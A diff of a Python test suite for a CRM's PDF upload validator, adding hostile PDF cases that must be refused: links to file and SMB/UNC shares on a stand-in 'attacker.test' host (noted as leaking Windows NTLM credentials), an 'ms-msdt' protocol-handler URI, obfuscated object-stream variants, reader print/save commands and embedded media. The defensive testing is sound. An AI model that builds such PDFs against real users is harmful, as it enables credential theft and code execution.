@@ -1,7 +1,8 @@
 """A PDF uploaded as evidence is refused when it carries anything that acts on its own (crm.uploads): JavaScript, an
-action run when it is opened or read, a program started, files embedded in it, an XFA form, a form action that sends
-or loads data, rich media, a link into another PDF (elsewhere or embedded). Each PDF is a real one, written by
-pypdf's writer, or laid out with its objects compressed in an object stream, where no byte of them can be read."""
+action run when it is opened or read, a program started, files embedded in it, an XFA form, a form action that sends or
+loads data, media it plays (rich media, a screen, a movie, a sound), a link into another PDF (elsewhere or embedded) or
+to a file or a network share, a command of the reader's menu other than turning a page. Each PDF is a real one, written
+by pypdf's writer, or laid out with its objects compressed in an object stream, where no byte of them can be read."""
 
 import html
 import uuid
@@ -41,7 +42,15 @@ SENDS_DATA = (
     "Photo: the PDF carries a form action that sends what is in it to another place, or loads data from another "
     "file; such a PDF is not accepted."
 )
-MEDIA = "Photo: the PDF carries rich media (Flash or 3D content) that the PDF reader would play; such a PDF is not"
+MEDIA = "Photo: the PDF carries media (Flash, 3D, a video or a sound) that the PDF reader would play; such a PDF is not"
+FILE_LINK = (
+    "Photo: the PDF has a link to a file, a network share or a program rather than to a web page or an e-mail "
+    "address (such a link can hand over the reader's Windows sign-in); such a PDF is not accepted."
+)
+NAMED = (
+    "Photo: the PDF has a link or a button that runs a command of the PDF reader (print, save, close ...); only "
+    "one that turns to the next, previous, first or last page is accepted."
+)
 OTHER_PDF = (
     "Photo: the PDF has a link that opens another PDF, stored elsewhere or embedded in a file; such a PDF is not "
     "accepted."
@@ -168,6 +177,35 @@ HOSTILE = {
         pdf_with_object_stream(b"/Names<</Dests<</Names[(x)<</S/GoToE/T<</R/C/N(x.pdf)>>/D[0/Fit]>>]>>>>"),
         OTHER_PDF,
     ),
+    # A link to a file or a share: Windows hands the share the reader's credentials (NTLM), as a /GoToR's would.
+    "file-uri-link": (pdf_bytes(link(action("/URI", URI="file:///C:/Windows/System32/calc.exe"))), FILE_LINK),
+    "file-uri-to-a-server-link": (pdf_bytes(link(action("/URI", URI="file://attacker.test/share/x.pdf"))), FILE_LINK),
+    "unc-uri-link": (pdf_bytes(link(action("/URI", URI="\\\\attacker.test\\share\\x.pdf"))), FILE_LINK),
+    "smb-uri-link": (pdf_bytes(link(action("/URI", URI="smb://attacker.test/share"))), FILE_LINK),
+    "protocol-handler-uri-link": (pdf_bytes(link(action("/URI", URI="ms-msdt:/id PCWDiagnostic"))), FILE_LINK),
+    # Written in capitals after spaces and a tab, as a byte string, in an object stream.
+    "file-uri-in-an-object-stream": (
+        pdf_with_object_stream(
+            page_entries=b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 200 200]/A<</S/URI/URI(  \tFILE://x/s)>>>>]"
+        ),
+        FILE_LINK,
+    ),
+    "named-print-link": (pdf_bytes(link(action("/Named", N=NameObject("/Print")))), NAMED),
+    "named-in-an-object-stream": (
+        pdf_with_object_stream(
+            page_entries=b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 200 200]/A<</S/Named/N/SaveAs>>>>]"
+        ),
+        NAMED,
+    ),
+    "rendition-link": (pdf_bytes(link(action("/Rendition", OP=NumberObject(0)))), MEDIA),
+    "movie-link": (pdf_bytes(link(action("/Movie", Operation=NameObject("/Play")))), MEDIA),
+    "sound-link": (pdf_bytes(link(action("/Sound", Sound=DictionaryObject()))), MEDIA),
+    "screen-annotation": (pdf_bytes(lambda w: annotation(w, "/Screen")), MEDIA),
+    "movie-annotation": (pdf_bytes(lambda w: annotation(w, "/Movie")), MEDIA),
+    "sound-annotation-in-an-object-stream": (
+        pdf_with_object_stream(page_entries=b"/Annots[<</Type/Annot/Subtype/Sound/Rect[0 0 200 200]>>]"),
+        MEDIA,
+    ),
 }
 
 
@@ -207,9 +245,12 @@ def test_the_refusal_is_a_400_naming_the_photo_field_in_chinese_too(case):
         ("xfa-form", "照片:该 PDF 是 XFA 表单"),
         ("submit-form-link", "照片:该 PDF 带有表单动作"),
         ("rich-media", "照片:该 PDF 含有富媒体"),
+        ("screen-annotation", "照片:该 PDF 含有富媒体"),
         ("remote-go-to-link", "照片:该 PDF 含有打开另一个 PDF 的链接"),
+        ("unc-uri-link", "照片:该 PDF 含有指向文件、网络共享或程序的链接"),
+        ("named-print-link", "照片:该 PDF 含有运行 PDF 阅读器命令"),
     ],
-    ids=["xfa", "submit-form", "rich-media", "remote-go-to"],
+    ids=["xfa", "submit-form", "rich-media", "screen", "remote-go-to", "unc-link", "named-action"],
 )
 def test_the_newer_refusals_name_the_photo_field_in_chinese(case, hostile, says):
     with translation.override("zh-hans"), pytest.raises(EvidenceInvalid) as refused:
@@ -234,7 +275,12 @@ def test_the_newer_refusals_name_the_photo_field_in_chinese(case, hostile, says)
         pdf_bytes(lambda w: w.encrypt(user_password="", owner_password="owner", algorithm="AES-128")),
         # A link to a web page is a link: the reader asks before opening it, and it acts only when clicked.
         pdf_bytes(link(action("/URI", URI="https://x.test/"))),
+        pdf_bytes(link(action("/URI", URI="HTTP://x.test/receipt?id=1"))),
+        pdf_bytes(link(action("/URI", URI="mailto:service@x.test"))),
         pdf_bytes(link(action("/GoTo", D=ArrayObject([NumberObject(0), NameObject("/Fit")])))),
+        # Turning a page is what a reader's own arrows do.
+        *[pdf_bytes(link(action("/Named", N=NameObject(page)))) for page in ("/NextPage", "/PrevPage")],
+        *[pdf_bytes(link(action("/Named", N=NameObject(page)))) for page in ("/FirstPage", "/LastPage")],
         # A plain form (AcroForm, no XFA) is fields on the page.
         pdf_bytes(
             lambda w: w.root_object.update(
@@ -252,7 +298,13 @@ def test_the_newer_refusals_name_the_photo_field_in_chinese(case, hostile, says)
         "words-in-a-string",
         "owner-password-only",
         "link-to-a-web-page",
+        "link-to-a-web-page-in-capitals",
+        "link-to-an-e-mail-address",
         "link-to-a-page",
+        "next-page",
+        "previous-page",
+        "first-page",
+        "last-page",
         "form-without-xfa",
         "link-to-a-web-page-in-an-object-stream",
     ],
